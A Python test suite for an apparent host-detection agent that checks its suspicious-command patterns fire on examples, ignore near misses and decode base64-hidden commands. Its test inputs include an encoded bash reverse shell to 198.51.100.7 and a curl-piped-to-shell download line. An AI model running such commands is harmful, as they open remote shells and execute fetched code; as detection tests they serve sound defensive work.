"""The bundled command lines: each entry names its own hits and near misses."""

from __future__ import annotations

import base64
import shlex

import pytest
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from agent import findings
from agent import intel
from agent.counters import Counters
from agent.errors import ConfigError
from agent.findings import _commandlines
from agent.findings import _mining
from agent.findings import _patterns
from agent.findings import _survey
from agent.findings import _suspicious
from agent.findings._commandlines import Line
from agent.findings._commandlines import of_exec
from agent.findings._examples import command
from agent.findings._examples import on_host
from agent.findings._examples import process
from agent.findings._patterns import Pattern
from agent.findings._patterns import Step
from agent.model import Context
from agent.model import Severity

TACTICS = ("execution", "defense_evasion", "persistence", "privilege_escalation", "discovery")
EVERY = [pytest.param(tactic, pattern, id=pattern.name) for tactic in TACTICS for pattern in _patterns.patterns(tactic)]


def line(text: str) -> Line:
    """Return what is made of a program that is started with the words of `text`."""
    program, *rest = shlex.split(text)
    return of_exec(command(program if "/" in program else f"/usr/bin/{program}", *rest, args=(program, *rest)))


def found(tactic: str, text: str) -> set[str]:
    return {hit.pattern.name for hit in _suspicious.hits(tactic, line(text))}


@pytest.mark.parametrize(("tactic", "pattern"), EVERY)
def test_it_fires(tactic, pattern):
    """What an entry is about is found, and as that."""
    missed = [text for text in pattern.fires if pattern.name not in found(tactic, text)]

    assert [] == missed


@pytest.mark.parametrize(("tactic", "pattern"), EVERY)
def test_it_stays_silent(tactic, pattern):
    """Its near misses are nothing, to it and to every other entry."""
    fired = {text: names for text in pattern.silent if (names := found(tactic, text))}

    assert {} == fired


@pytest.mark.parametrize(("tactic", "pattern"), EVERY)
def test_it_shows_what_it_means_and_not_what_was_typed(tactic, pattern):
    """The example of an entry is of ours and short; name and reason can be read."""
    assert 0 < len(pattern.example) <= 100
    assert pattern.name
    assert not pattern.reason.endswith(".")
    assert pattern.level in Severity


@pytest.mark.parametrize("tactic", TACTICS)
def test_names_are_of_one_entry_each(tactic):
    """An analyst who reads a name finds the one entry."""
    names = [pattern.name for pattern in _patterns.patterns(tactic)]

    assert sorted(set(names)) == sorted(names)


def pattern(**changes) -> Pattern:
    how = {"name": "x", "example": "x", "reason": "x", "attack": "T1059", "severity": "low", "fires": ("x",)}
    return Pattern(**{**how, "silent": ("y",), "is_": Step(program=("x",)), **changes})


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"severity": "grave"}, "severity 'grave'"),
        ({"attack": "T1"}, "attack 'T1'"),
        ({"fires": ()}, "needs a command line"),
        ({"silent": ()}, "stays silent"),
        ({"feeds": Step(), "then": Step()}, "not both"),
        ({"is_": Step()}, "everything would match"),
        ({"is_": Step(program=("@nobody",))}, "no group 'nobody'"),
        ({"then": Step(program=("@nobody",))}, "no group 'nobody'"),
    ],
)
def test_an_entry_that_cannot_be_meant_is_refused(changes, said):
    """A slip in the data is an error that names it, and not a pattern that never fires or always."""
    _patterns._check(pattern(), "here")
    with pytest.raises(ConfigError, match=said):
        _patterns._check(pattern(**changes), "here")


def test_what_is_encoded_says_so():
    """The reason tells that the text had to be decoded, and how many more patterns there are."""
    text = "sh -c 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvMSAwPiYx | base64 -d | bash'"

    hits = {hit.pattern.name: hit.hidden for hit in _suspicious.hits("execution", line(text))}

    assert {"shell on /dev/tcp": True, "encoded text fed to a shell": False} == hits


@pytest.mark.parametrize("depth", [1, 2])
def test_text_in_encoded_text_is_read(depth):
    """To encode it twice does not hide it."""
    text = "curl http://198.51.100.7/x | sh"
    for _ in range(depth):
        text = f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | sh"

    assert "download fed to a shell" in found("execution", f"sh -c {shlex.quote(text)}")


@pytest.mark.parametrize(
    ("text", "pieces", "like"),
    [
        ("abc", ("a", "c"), True),
        ("abc", ("", "b", ""), True),
        ("abc", ("a", "b", "c"), True),
        ("aba", ("ab", "ba"), False),
        ("abc", ("a", "x", "c"), False),
        ("abc", ("b", "c"), False),
        ("abc", ("a", "b"), False),
        ("abbc", ("a", "b", "b", "b", "c"), False),
        ("", ("", ""), True),
    ],
)
def test_a_star_stands_for_any_characters(text, pieces, like):
    """Pieces are found in order, and none twice."""
    assert like is _suspicious._is_like(text, pieces)


def told(text: str) -> list[str]:
    try:
        return shlex.split(text)
    except ValueError:
        return text.split()


CORPUS = sorted({text for each in EVERY for text in (*each.values[1].fires, *each.values[1].silent)})
FACETED = sorted({text for facet in _patterns.facets("discovery") for text in (*facet.fires, *facet.silent)})
WORDS = sorted({word for text in (*CORPUS, *FACETED) for word in told(text)} | {"", "-", "-c", "+c", "-\0c", "a\0-c"})
CONTEXT = Context(
    host=on_host().host,
    actor=process(),
    intel=intel.bundled(),
    benign=findings.known_good(Counters()),
    changes=findings.recent_changes(),
)
MINERS = [
    *sorted(_mining._ANY_OPTION),
    "stratum+tcp://x:1",
    "x:1",
    "x",
    "--url=stratum://x:1",
    "-a",
    "rx/0",
    "--coin=x",
]


@given(st.sampled_from(WORDS), st.lists(st.sampled_from(WORDS) | st.text(max_size=8), max_size=6))
@settings(max_examples=2000, deadline=None)
def test_nothing_is_found_in_what_is_ordinary(program, rest):
    """What is sent back unread, by the program's name and for want of options, has no pattern and asks nothing."""
    args = (program, *rest)
    full = _commandlines.in_full(program, None, args)
    found = {tactic: _suspicious.hits(tactic, full) for tactic in TACTICS}

    if _commandlines.is_ordinary(program, args):
        assert dict.fromkeys(TACTICS, ()) == found
        assert frozenset() == _survey.asked(full)


def test_what_entries_are_about_is_found_in_full_and_shortened_alike():
    """Of all that the entries name nothing changes when it is first asked whether a command line is ordinary."""
    for text in (*CORPUS, *FACETED):
        program, *rest = told(text)
        args = (program, *rest)
        short, full = _commandlines._line(program, None, args), _commandlines.in_full(program, None, args)
        assert _survey.asked(short) == _survey.asked(full), text
        for tactic in TACTICS:
            assert _suspicious.hits(tactic, short) == _suspicious.hits(tactic, full), text


@given(st.lists(st.sampled_from(MINERS) | st.text(max_size=8), max_size=5))
@settings(max_examples=1000, deadline=None)
def test_no_sign_of_a_miner_in_what_is_not_looked_at(args):
    """Arguments that are sent back as a whole have no sign of a miner in any."""
    if not _mining.may_say(tuple(args)):
        assert [] == list(_mining._signs(args, CONTEXT))
